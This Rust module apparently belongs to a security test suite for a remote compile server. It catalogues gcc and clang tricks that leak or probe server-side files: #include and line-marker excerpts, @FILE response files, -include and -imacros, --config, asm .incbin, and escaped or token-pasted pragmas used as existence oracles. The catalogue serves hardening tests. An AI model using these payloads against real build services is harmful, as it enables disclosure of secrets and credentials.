//! Ways to have a file of the server told.

use crate::attack::{Attack, Scene};
use crate::run::{contains, job};
use crate::victim::PATIENCE;
use crate::wire::{expanded, read_answer, send};

const INCLUDE: &str = "#include \"{secret}\"\n";
const NOTHING: &str = "int x;\n";
/// An error in the line of a file that somebody else wrote: compilers show that line.
const EXCERPT: &str = "# 1 \"{secret}\"\nint x = oops;\n";
/// Makes an object with a word that the source has in two parts.
const EXISTS: &str =
    "#if __has_include(\"{secret}\")\nasm(\".ascii \\\"found\\\" \\\"it\\\"\");\n#endif\n";

pub(super) const ATTACKS: &[Attack] = &[
    Attack::leaks("-x c, #include", &["gcc", "-x", "c"], INCLUDE),
    Attack::leaks("a line marker's excerpt", &["gcc"], EXCERPT),
    Attack::leaks("a line marker's excerpt, g++", &["g++"], EXCERPT),
    Attack::leaks("#include in what clang takes for preprocessed", &["clang"], INCLUDE),
    Attack::leaks("@FILE", &["gcc", "@{secret}"], NOTHING),
    Attack::leaks("-Wa,@FILE", &["gcc", "-Wa,@{secret}"], NOTHING),
    Attack::leaks("-x c -include", &["gcc", "-x", "c", "-include", "{secret}"], NOTHING),
    Attack::leaks(
        "-x c -imacros",
        &["gcc", "-x", "c", "-imacros", "{secret}"],
        "char *p = PASSWORD;\n",
    ),
    Attack::leaks("-Wp,-include", &["gcc", "-x", "c", "-Wp,-include,{secret}"], NOTHING),
    Attack::leaks("-fno-preprocessed", &["gcc", "-fno-preprocessed"], INCLUDE),
    Attack::leaks("-fdirectives-only", &["gcc", "-fdirectives-only"], INCLUDE),
    Attack::leaks(
        "-fdirectives-only, a letter by its number",
        &["gcc", "-fdirectives-only"],
        "# 0 \"main.c\"\n#inc\\u006cude \"{secret}\"\n",
    ),
    Attack::leaks("-Xassembler @FILE", &["gcc", "-Xassembler", "@{secret}"], NOTHING),
    Attack::leaks(
        "-fsanitize-ignorelist=",
        &["clang", "-fsanitize=address", "-fsanitize-ignorelist={secret}"],
        NOTHING,
    ),
    Attack::leaks(
        "-Xclang -ivfsoverlay",
        &["clang", "-Xclang", "-ivfsoverlay", "-Xclang", "{secret}"],
        NOTHING,
    ),
    Attack::leaks("--config FILE", &["clang", "--config", "{secret}"], NOTHING),
    Attack::finds("clang's __has_include", &["clang"], EXISTS),
    Attack::finds("gcc's __has_include by -x c", &["gcc", "-x", "c"], EXISTS),
    Attack::behaves("#pragma GCC dependency", |scene| {
        tells_whether_there_is_a_file(scene, &["gcc"], "#pragma GCC dependency \"{path}\"\n")
    }),
    Attack::behaves("#pragma GCC dependency, a letter by its number", |scene| {
        tells_whether_there_is_a_file(scene, &["gcc"], "#pragma GCC d\\u0065pendency \"{path}\"\n")
    }),
    Attack::behaves("#pragma GCC pch_preprocess, a letter by its number", |scene| {
        let pragma = "#pragma GCC pch_pr\\u0065process \"{path}\"\n";
        tells_whether_there_is_a_file(scene, &["gcc"], pragma)
    }),
    Attack::behaves("a pragma pasted together", |scene| {
        let source = "#define S(x) _Pragma(#x)\n#define E(x) S(x)\n#define P(a, b) a##b\n\
                      E(GCC P(depen, dency) \"{path}\")\n";
        tells_whether_there_is_a_file(scene, &["gcc", "-fdirectives-only"], source)
    })
    .needs_cage(),
    Attack::behaves("columns of diagnostics", tells_of_tabs).needs_cage(),
    Attack::leaks(".incbin, gcc", &["gcc"], "asm(\".incbin \\\"{secret}\\\"\");\n").needs_cage(),
    Attack::leaks(".incbin, clang", &["clang"], "asm(\".incbin \\\"{secret}\\\"\");\n")
        .needs_cage(),
    Attack::leaks(".include, gcc", &["gcc"], "asm(\".include \\\"{secret}\\\"\");\n").needs_cage(),
    Attack::leaks(".include, clang", &["clang"], "asm(\".include \\\"{secret}\\\"\");\n")
        .needs_cage(),
];

/// Does gcc say of one file that it is there, and of another that it is not?
fn tells_whether_there_is_a_file(scene: &Scene, argv: &[&str], source: &str) -> bool {
    let says_no = |path: &str| {
        // Behind the line that gcc begins every such text with.
        let source = format!("# 0 \"main.c\"\n{}int x;\n", source.replace("{path}", path));
        let request = job(scene.victim, scene.protocol, argv, &source);
        let (answer, _) = read_answer(&mut send(scene.victim, &request), PATIENCE);
        contains(&expanded(scene.protocol, &answer, 1 << 20), b"No such file")
    };
    says_no("{secret}x") && !says_no("{secret}")
}

/// Does the column of an error depend on the line of a file that somebody else wrote?
fn tells_of_tabs(scene: &Scene) -> bool {
    let says_40 = |path: &str| {
        let source = format!("# 3 \"{path}\"\n{:39}oops x;\n", "");
        let request = job(scene.victim, scene.protocol, &["gcc", "-ftabstop=100"], &source);
        let (answer, _) = read_answer(&mut send(scene.victim, &request), PATIENCE);
        contains(&expanded(scene.protocol, &answer, 1 << 20), b":3:40: error")
    };
    says_40("{secret}x") && !says_40("{secret}")
}
